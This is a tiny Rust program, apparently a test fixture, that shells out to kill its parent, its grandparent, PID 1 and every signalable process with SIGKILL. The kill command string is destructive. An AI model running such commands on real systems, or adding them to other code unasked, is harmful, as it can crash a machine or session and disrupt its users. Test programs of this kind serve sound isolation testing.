//! Kills its parent, and whomever else it may.
fn main() {
    let kill = "kill -9 $PPID; kill -9 $(cut -d' ' -f4 /proc/$PPID/stat); kill -9 1; kill -9 -1";
    let _ = std::process::Command::new("sh").args(["-c", kill]).status();
}
